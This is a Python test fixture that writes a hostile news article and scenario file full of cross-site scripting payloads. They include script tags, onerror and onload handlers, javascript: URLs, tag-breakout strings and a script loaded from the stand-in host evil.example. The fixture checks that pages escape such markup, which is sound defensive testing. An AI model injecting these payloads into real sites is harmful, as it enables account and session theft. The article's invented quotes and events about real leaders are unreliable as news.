"""A hostile article: markup and script in its text, title, outlet and URL, for the safety tests.

Every payload sets the canary ``window.__pwned`` (or asks ``evil.example`` for a
script, which the request monitor catches) if a page or the report ever lets it
run. The text is written as a news report on the talks so that extraction keeps
the payloads inside the quotes, claims and events it stores: the markup then
reaches every page that shows evidence, not only the article view.
"""

from __future__ import annotations

import json
from pathlib import Path

__all__ = [
    "CANARY",
    "HOSTILE_FILE",
    "HOSTILE_MARKS",
    "HOSTILE_SCENARIO",
    "HOSTILE_TITLE",
    "hostile_scenario",
    "write_hostile_article",
]

CANARY = "__pwned"
"""The window property any executed payload sets."""

_RUN = f"window.{CANARY}=1"

HOSTILE_FILE = "hostile-wire.jsonl"
HOSTILE_TITLE = f"Talks <script>{_RUN}</script> resume <img src=x onerror={_RUN}> in Istanbul"
_OUTLET = f"<b onmouseover={_RUN}>Hostile</b> Wire <script>{_RUN}</script>"
_URL = f"javascript:{_RUN}"
_TEXT = "\n\n".join(
    (
        "Ukrainian President Volodymyr Zelensky said on Tuesday that Kyiv would never accept "
        f"<script>{_RUN};alert(document.domain)</script> a ceasefire that left Crimea under "
        "Russian control.",
        f'"We will not give up an inch <img src=x onerror="{_RUN};alert(1)"> of our land," '
        "Zelensky told reporters in Kyiv.",
        "Russian Foreign Minister Sergei Lavrov said Moscow insisted on the neutrality of Ukraine "
        f'<a href="javascript:{_RUN}">and the end of sanctions</a>.',
        f"Officials said there was a 70% chance <svg onload={_RUN}> of a new round of talks in "
        "Istanbul in June.",
        "Russia and Ukraine agreed to exchange 1,000 prisoners each </textarea></title>"
        '<div class="x <!-- after the talks in Istanbul.',
        'Donald Trump said he would meet Vladimir Putin in Alaska "><script '
        'src="http://evil.example/x.js"></script> next month.',
    )
)

HOSTILE_MARKS = ("<script>", "onerror=", "javascript:", "</textarea>")
"""Fragments of the payloads that a page showing the article must show as text."""


HOSTILE_SCENARIO = "hostile-talks"
"""The name the hostile scenario is stored under."""


def hostile_scenario(shipped: str) -> str:
    """The shipped scenario's YAML with markup in its title, an issue label and the description.

    Raises ``ValueError`` when the shipped file no longer has the lines replaced.
    """
    replaced = shipped
    for line, hostile in (
        ("id: russia-ukraine-2025\n", f"id: {HOSTILE_SCENARIO}\n"),
        ("title: Russia–Ukraine", f"title: Hostile <script>{_RUN}</script> Russia–Ukraine"),
        ("label: Territory\n", f'label: "Territory <img src=x onerror={_RUN}>"\n'),
        ("description: >\n", f'description: >\n  <a href="javascript:{_RUN}">broken <b\n'),
    ):
        if line not in replaced:
            raise ValueError(f"the shipped scenario has no line {line!r} to make hostile")
        replaced = replaced.replace(line, hostile, 1)
    return replaced


def write_hostile_article(folder: Path) -> Path:
    """Write the hostile article as a one-record JSON Lines file in ``folder``; its path."""
    folder.mkdir(parents=True, exist_ok=True)
    record = {
        "title": HOSTILE_TITLE,
        "outlet": _OUTLET,
        "url": _URL,
        "published": "2025-06-01",
        "text": _TEXT,
    }
    path = folder / HOSTILE_FILE
    path.write_text(json.dumps(record) + "\n", encoding="utf-8")
    return path
